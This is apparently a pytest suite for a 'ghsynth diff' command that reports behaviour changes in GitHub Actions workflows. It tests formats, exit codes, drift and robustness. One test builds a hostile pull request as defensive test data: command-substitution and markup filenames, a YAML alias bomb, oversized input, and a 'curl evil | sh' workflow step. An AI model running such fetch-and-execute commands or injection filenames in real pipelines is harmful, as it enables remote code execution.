"""`ghsynth diff`: the formats, the exit codes, the definition's lines, drift, and pull requests that mean harm."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from synth.cli.app import app
from synth.compare.comparing import compare
from synth.compare.render.annotations import annotations as commands
from synth.compare.render.as_json import as_json
from synth.compare.render.markdown import markdown
from synth.compare.render.text import text
from tests.cli.repository import HELLO, ghsynth
from tests.sources.repository import CI, Repository

RUN = CliRunner()
BEFORE = """\
name: CI
on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
      - run: make test
"""
AFTER = BEFORE.replace("contents: read", "contents: write").replace("make test", "make test || true")
HARMLESS = BEFORE.replace("on: push", "on: [push]  # each")
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    [f"{b}: &{b} [{', '.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)]
)


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    return Repository.made(tmp_path / "repository")


def said(repository: Repository, *words: str) -> tuple[int, str]:
    """The exit code and what was printed, on either stream."""
    done = RUN.invoke(app, ["diff", "--directory", str(repository.root), *words])
    return done.exit_code, done.output


def test_the_formats(repository: Repository) -> None:
    """Each is what its renderer makes of the comparison, and nothing else is printed."""
    repository.commit(**{CI: BEFORE})
    head = repository.commit(**{CI: AFTER})
    comparison = compare({CI: BEFORE.encode()}, {CI: AFTER.encode()})
    expected = {"text": text(comparison), "markdown": markdown(comparison, head), "json": as_json(comparison), "github": commands(comparison)}
    found = {format: said(repository, "HEAD~1", "HEAD", "--format", format) for format in expected}
    assert {format: (0, answer if answer.endswith("\n") else answer + "\n") for format, answer in expected.items()} == found


@pytest.mark.parametrize(("fail_on", "after", "code"), [("danger", AFTER, 1), ("caution", AFTER, 1), ("nothing", AFTER, 0), ("caution", HARMLESS, 0)])
def test_the_exit_code(repository: Repository, fail_on: str, after: str, code: int) -> None:
    repository.commit(**{CI: BEFORE})
    repository.write(CI, after)
    assert code == said(repository, "--fail-on", fail_on)[0]
    assert code == json.loads(said(repository, "--fail-on", fail_on, "--format", "json")[1])["exit_code"]


def test_caution_is_less_than_danger(repository: Repository) -> None:
    repository.commit(**{CI: BEFORE})
    repository.write(CI, BEFORE.replace("on: push", "on: [push, workflow_dispatch]"))
    assert (0, 1) == (said(repository, "--fail-on", "danger")[0], said(repository, "--fail-on", "caution")[0])


def test_nothing_changed(repository: Repository) -> None:
    repository.commit(**{CI: BEFORE})
    code, answer = said(repository)
    assert (0, True) == (code, answer.startswith("no workflow behaviour change"))


def test_no_colour_where_nobody_looks(repository: Repository) -> None:
    repository.commit(**{CI: BEFORE})
    repository.write(CI, AFTER)
    answer = ghsynth("diff", cwd=repository.root, env={"NO_COLOR": "1"})
    assert (0, False, "") == (answer.code, "\x1b" in answer.out, answer.err)


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (["mian"], "mian  is no commit, branch, tag, file or folder here; did you mean 'main'?\n"),
        (["HEAD", "HEAD", "absent.yml"], "absent.yml  is no file or folder here\n"),
        (["--drift", "HEAD", "HEAD"], "--drift  looks at the work tree: leave out HEAD\n"),
    ],
)
def test_what_is_refused(repository: Repository, words: list[str], expected: str) -> None:
    repository.commit(**{CI: BEFORE})
    assert (2, expected) == said(repository, *words)


def test_no_repository(tmp_path: Path) -> None:
    done = RUN.invoke(app, ["diff", "--directory", str(tmp_path)])
    assert (2, f"{tmp_path}  is in no git repository: give two files or folders instead\n") == (done.exit_code, done.output)


@pytest.mark.parametrize("option", [["--format", "xml"], ["--fail-on", "info"], ["--drift", "--no-definition"]])
def test_options_are_checked(repository: Repository, option: list[str]) -> None:
    assert 2 == said(repository, *option)[0]


def generated(repository: Repository, definition: str) -> None:
    repository.write(".github/ghsynth.py", definition)
    assert 0 == ghsynth("generate", cwd=repository.root).code


def written(repository: Repository, *words: str) -> list[dict[str, object] | None]:
    code, answer = said(repository, "--format", "json", *words)
    assert 0 == code
    return [change["written"] for file in json.loads(answer)["files"] for change in file["changes"]]


def test_the_line_of_the_definition_is_named(repository: Repository) -> None:
    generated(repository, HELLO)
    repository.commit()
    generated(repository, HELLO.replace("echo hello", "echo goodbye"))
    assert {(".github/ghsynth.py", 3)} == {(at["file"], at["line"]) for at in written(repository) if at}
    assert not any(written(repository, "--no-definition"))


def test_drift_is_named_with_the_command(repository: Repository) -> None:
    generated(repository, HELLO)
    repository.commit()
    assert 0 == said(repository, "HEAD", "--drift", "--fail-on", "caution")[0]
    repository.write(CI, (repository.root / CI).read_text().replace("echo hello", "echo edited"))
    repository.commit()
    code, answer = said(repository, "HEAD", "--drift", "--fail-on", "caution")
    assert (1, True, True) == (code, "is not what" in answer, "ghsynth generate" in answer)


def test_a_definition_that_is_in_the_way_of_drift(repository: Repository) -> None:
    repository.commit(**{CI: BEFORE, ".github/ghsynth.py": "import nothing_of_this_name\n"})
    code, answer = said(repository, "HEAD", "--drift")
    assert (2, True) == (code, answer.startswith(".github/ghsynth.py:1  "))


def test_a_broken_definition_costs_the_lines_only(repository: Repository) -> None:
    generated(repository, HELLO)
    repository.commit()
    repository.write(CI, (repository.root / CI).read_text().replace("echo hello", "echo edited"))
    repository.write(".github/ghsynth.py", "1 +\n")
    code, out = said(repository)
    assert (0, True, True) == (code, "cannot be loaded, so its lines are not named" in out, "echo" in out)


def test_a_hostile_pull_request_ends_quickly_with_rows_and_runs_nothing(repository: Repository, tmp_path: Path) -> None:
    """A builder that acts, names that are commands and markup, 20 MB of YAML, an alias bomb, text that is no text."""
    generated(repository, HELLO)
    repository.commit(**{"README.md": ""})
    repository.git("switch", "--quiet", "--create", "pull")
    ran = tmp_path / "ran"
    repository.write(".github/ghsynth.py", f"open({str(ran)!r}, 'w').close()\n" + HELLO)
    files: dict[str, str | bytes] = {
        "$(touch ran)\n`id`.yml": AFTER,
        "<img src=x> @everyone.yml": AFTER,
        "huge.yml": "a: " + "x" * (20 << 20),
        "bomb.yml": BOMB,
        "deep.yml": "[" * 100_000,
        "bytes.yml": bytes(range(256)),
    }
    for name, content in files.items():
        repository.write(f".github/workflows/{name}", content)
    repository.write(CI, (repository.root / CI).read_text().replace("echo hello", "curl evil | sh"))
    repository.commit()
    for format in ("text", "markdown", "json", "github"):
        began = time.monotonic()
        answer = ghsynth("diff", "main", "HEAD", "--format", format, cwd=repository.root)
        assert (0, "", False) == (answer.code, answer.err, ran.exists())
        assert time.monotonic() - began < 10
        assert all([name in answer.out for name in ("huge.yml", "bomb.yml", "deep.yml", "bytes.yml")])
    assert 1 == ghsynth("diff", "main", "HEAD", "--fail-on", "danger", cwd=repository.root).code
    ghsynth("diff", "main", "--no-definition", cwd=repository.root)
    assert not ran.exists()


def test_nothing_is_asked_of_the_network(repository: Repository, tmp_path: Path) -> None:
    repository.commit(**{CI: BEFORE})
    repository.git("remote", "add", "origin", "https://192.0.2.1/never.git")
    repository.write(CI, AFTER)
    began = time.monotonic()
    assert 0 == ghsynth("diff", cwd=repository.root, env={"GIT_TRACE": str(tmp_path / "trace")}).code
    assert time.monotonic() - began < 10
    assert "fetch" not in (tmp_path / "trace").read_text()


def test_from_a_folder_below(repository: Repository) -> None:
    repository.commit(**{CI: BEFORE, "src/x": ""})
    repository.write(CI, AFTER)
    assert 1 == ghsynth("diff", "--fail-on", "danger", cwd=repository.root / "src").code
